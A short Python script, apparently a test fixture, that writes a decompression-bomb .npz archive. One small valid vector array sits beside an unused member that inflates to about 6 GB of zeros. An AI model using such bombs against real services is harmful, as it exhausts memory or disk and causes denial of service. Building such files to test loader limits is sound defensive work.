import io, zipfile, numpy as np
from numpy.lib import format as F
# .npz whose used member is fine but an unused member inflates to 6 GB (a valid .npy of zeros)
b = io.BytesIO(); np.save(b, np.random.default_rng(0).standard_normal((300, 16)).astype(np.float32))
n = 96 * (64 << 20)
h = io.BytesIO(); F.write_array_header_1_0(h, {"descr": "|u1", "fortran_order": False, "shape": (n,)})
with zipfile.ZipFile("bomb.npz", "w", zipfile.ZIP_DEFLATED) as zf:
    zf.writestr("vectors.npy", b.getvalue())
    with zf.open("unused.npy", "w", force_zip64=True) as fh:
        fh.write(h.getvalue())
        for _ in range(96): fh.write(b"\0" * (64 << 20))
